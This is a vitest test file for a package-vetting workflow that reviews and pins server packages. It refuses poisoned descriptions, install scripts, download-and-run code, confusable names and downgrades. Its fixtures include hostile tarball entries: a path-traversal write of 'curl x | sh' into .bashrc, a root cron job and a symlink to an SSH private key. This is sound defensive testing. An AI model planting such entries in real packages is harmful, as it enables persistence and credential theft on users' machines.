import { describe, expect, it } from 'vitest';
import { addServer } from '../../../src/workflows/add.js';
import { DOWNLOAD_AND_RUN, POISONED, fails, registry, serves } from './support.js';

const add = (r: ReturnType<typeof registry>, spec: string, extra: Record<string, unknown> = {}) =>
  addServer(r.fake.ports(), { spec, by: 'tester', failOn: 'high', snapshot: { sandbox: 'strict' }, ...extra });
const codes = (findings: Array<{ code: string }>) => [...new Set(findings.map((f) => f.code))].sort();

describe('add: the first pin gets the full review', () => {
  it('pins a benign server with its evidence, after three sandboxed starts', async () => {
    const r = registry();
    r.publish('notes', '1.0.0');
    const result = await add(r, 'notes@1.0.0');
    // (the fake registry cannot say whether the version has provenance: a notice for the run, not a finding)
    expect(codes(result.report.findings.filter((f) => f.severity !== 'info'))).toEqual([]);
    expect(result.report.notices?.map((n) => n.code)).toEqual(['provenance/unavailable']);
    expect(result.pinned).toBe(true);
    expect(result.entry?.manifest).toMatchObject({ status: 'captured', tools: 1 });
    expect(r.fake.calls.filter((c) => c.startsWith('sandbox '))).toHaveLength(3);
    const pinned = await r.fake.workspace.readEntry('notes');
    expect(pinned?.approved.by).toBe('tester');
    expect(await r.fake.workspace.readLock('notes', '1.0.0')).not.toBeNull();
  });

  it('names each step on the progress port: metadata, fetch, closure, advisories, provenance, install, each start', async () => {
    const r = registry();
    r.publish('notes', '1.0.0');
    await add(r, 'notes@1.0.0');
    expect([...r.fake.steps].sort()).toEqual(
      [
        'notes@1.0.0: registry metadata',
        'notes@1.0.0: dependency closure',
        'notes@1.0.0: fetch and read the package',
        'notes: advisories',
        'notes@1.0.0: provenance',
        'notes@1.0.0: sandboxed snapshot',
        'notes@1.0.0: install the closure',
        'notes@1.0.0: sandboxed start (first start)',
        'notes@1.0.0: sandboxed start (second start, same HOME)',
        'notes@1.0.0: sandboxed start (client claude-ai)',
      ].sort(),
    );
  });

  it('refuses a poisoned description with its poison code, and writes nothing', async () => {
    const r = registry();
    r.publish('notes', '1.0.0', { server: serves(POISONED) });
    const result = await add(r, 'notes@1.0.0');
    expect(result.pinned).toBe(false);
    expect(codes(result.report.findings).some((c) => c.startsWith('poison/'))).toBe(true);
    expect(await r.fake.workspace.readEntry('notes')).toBeNull();
  });

  it('refuses a postinstall script; a prepare script (never run from the registry) is only noted', async () => {
    const r = registry();
    r.publish('hooked', '1.0.0', { scripts: { postinstall: 'node collect.js' } });
    r.publish('built', '1.0.0', { scripts: { prepare: 'tsc' } });
    const hooked = await add(r, 'hooked@1.0.0');
    expect(hooked.pinned).toBe(false);
    expect(hooked.report.findings.find((f) => f.code === 'package/install-script-added')?.severity).toBe('high');
    const built = await add(r, 'built@1.0.0');
    expect(built.pinned).toBe(true);
    expect(built.report.findings.find((f) => f.code === 'package/install-script-added')?.severity).toBe('info');
  });

  it.each([
    ['a `../` entry', { path: 'package/../../.bashrc', data: Buffer.from('curl x | sh\n') }],
    ['an absolute path', { path: '/etc/cron.d/job', data: Buffer.from('* * * * * root id\n') }],
    ['a symlink', { path: 'package/config', type: '2' as const, linkpath: '/home/user/.ssh/id_rsa' }],
    ['a hard link', { path: 'package/copy', type: '1' as const, linkpath: 'package/server.js' }],
    ['a device', { path: 'package/tty', type: '3' as const }],
    ['a FIFO', { path: 'package/pipe', type: '6' as const }],
  ])('refuses %s in the tarball and records it in the package evidence', async (_what, entry) => {
    const r = registry();
    r.publish('tarred', '1.0.0', { raw: [entry] });
    const result = await add(r, 'tarred@1.0.0');
    expect(result.pinned).toBe(false);
    const unsafe = result.report.findings.find((f) => f.code === 'package/unsafe-tarball-entry');
    expect(unsafe?.severity).toBe('critical');
    // --force --note pins it anyway, and the package evidence keeps the entry
    const forced = await add(r, 'tarred@1.0.0', { force: true, note: 'vendored fixture, reviewed' });
    expect(forced.pinned).toBe(true);
    expect(forced.entry?.approved.note).toMatch(/^forced past \d+ finding\(s\): vendored fixture, reviewed$/);
    expect((await r.fake.workspace.readPackageMeta('tarred', '1.0.0'))?.unsafeEntries?.length).toBe(1);
  });

  it('refuses code that downloads and runs a script, even when its start fails in the sandbox', async () => {
    const r = registry();
    r.publish('setup', '1.0.0', {
      code: DOWNLOAD_AND_RUN,
      server: fails('setup: the server exited with code 1; stderr ends: ERR_ACCESS_DENIED ChildProcess'),
    });
    const result = await add(r, 'setup@1.0.0');
    expect(result.pinned).toBe(false);
    const api = result.report.findings.find(
      (f) => f.code === 'package/dangerous-api-added' && f.evidence?.['api'] === 'download-exec',
    );
    expect(api?.severity).toBe('critical');
    // the failed start is a stage finding naming the denied permission; the package finding still shows
    const stage = result.report.findings.find((f) => f.code === 'stage/incomplete');
    expect(stage?.message).toContain('ChildProcess');
  });

  it('--force needs a note', async () => {
    const r = registry();
    r.publish('notes', '1.0.0');
    await expect(add(r, 'notes@1.0.0', { force: true })).rejects.toMatchObject({ code: 'USAGE' });
  });

  it('a registry that fails during the fetch stage is a stage finding with its cause; nothing is pinned', async () => {
    const r = registry();
    r.publish('notes', '1.0.0');
    r.fake.unreachable.add('tarballs');
    const result = await add(r, 'notes@1.0.0');
    expect(result.pinned).toBe(false);
    const stage = result.report.findings.find((f) => f.code === 'stage/incomplete');
    expect(stage?.evidence).toMatchObject({ stage: 'fetch', code: 'REGISTRY_UNREACHABLE' });
    expect(stage?.message).toContain('tarballs fetch notes@1.0.0');
  });

  it('flags a name confusable with an allowlisted one', async () => {
    const r = registry();
    r.publish('notes-server', '1.0.0');
    r.publish('notes-servers', '1.0.0');
    expect((await add(r, 'notes-server@1.0.0')).pinned).toBe(true);
    const second = await add(r, 'notes-servers@1.0.0');
    expect(codes(second.report.findings)).toContain('package/name-confusable');
  });

  it('add over an existing pin at a higher version is package/downgrade, high; --allow-downgrade makes it info', async () => {
    const r = registry();
    r.publish('notes', '1.0.0');
    r.publish('notes', '1.1.0');
    expect((await add(r, 'notes@1.1.0', { snapshot: false })).pinned).toBe(true);
    const refused = await add(r, 'notes@1.0.0', { snapshot: false });
    expect(refused.report.findings.filter((f) => f.code === 'package/downgrade').map((f) => f.severity)).toEqual([
      'high',
    ]);
    expect(refused.pinned).toBe(false);
    expect((await r.fake.workspace.readEntry('notes'))?.version).toBe('1.1.0');
    const allowed = await add(r, 'notes@1.0.0', { snapshot: false, allowDowngrade: true });
    expect(allowed.report.findings.filter((f) => f.code === 'package/downgrade').map((f) => f.severity)).toEqual([
      'info',
    ]);
    expect(allowed.pinned).toBe(true);
    // a first pin, or the same or a higher version again, is no downgrade
    const again = await add(r, 'notes@1.1.0', { snapshot: false });
    expect(codes(again.report.findings)).not.toContain('package/downgrade');
  });
});
